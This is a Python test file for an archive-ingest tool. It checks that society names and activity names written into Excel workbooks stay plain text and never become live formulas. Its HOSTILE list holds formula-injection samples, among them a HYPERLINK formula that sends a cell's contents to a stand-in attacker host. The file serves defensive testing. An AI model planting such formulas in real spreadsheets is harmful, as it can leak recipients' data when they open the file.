"""Text from society archives stays text in the batch workbook and the 汇总表: no live formulas."""

import openpyxl

from ingest.batch.forms import load_form, write_form_xlsx
from ingest.batch.ranking import Row
from ingest.batch.workbook import write_workbook
from rubrics.loader import load_rubric

HOSTILE = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+2", "-1+2", "@SUM(A1:A9)",
           "\t=1+2", "\r=1+2"]


def formulas(path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row
            if c.data_type == "f"]


def texts(path) -> set:
    book = openpyxl.load_workbook(path)
    return {c.value for s in book.worksheets for row in s.iter_rows() for c in row}


def test_hostile_folder_and_file_names_are_written_as_text(tmp_path):
    rows = [Row(society=name, label=name, record=None, failure=name) for name in HOSTILE]
    output = tmp_path / "预审报告.xlsx"
    write_workbook(output, load_rubric("jiangxi-2021-society"), rows, [(name, name) for name in HOSTILE])
    assert formulas(output) == []
    assert set(HOSTILE) <= texts(output)


def test_hostile_activity_names_in_the_summary_form_are_written_as_text(tmp_path):
    form = load_form("jiangxi-2021-society")
    filled = [[[HOSTILE[i % len(HOSTILE)]] * len(table.columns)] for i, table in enumerate(form.tables)]
    output = tmp_path / "汇总表.xlsx"
    write_form_xlsx(output, form, filled, 2021)
    assert formulas(output) == []
    assert "=1+2" in texts(output)
